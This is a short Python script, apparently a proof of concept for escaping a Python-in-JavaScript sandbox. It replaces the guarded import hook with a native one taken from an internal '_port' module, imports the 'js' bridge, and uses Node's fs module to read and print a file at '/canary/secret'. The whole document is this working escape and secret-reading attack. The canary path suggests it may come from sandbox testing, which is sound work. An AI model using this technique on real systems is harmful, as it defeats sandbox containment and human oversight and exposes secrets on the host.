"""Put the interpreter's own import in the loader's place, then just `import js`."""

import sys

port = sys.modules["_port"]
port.builtins.__import__ = port.native_import
import js

print(js.process.getBuiltinModule("fs").readFileSync("/canary/secret", "utf8"))
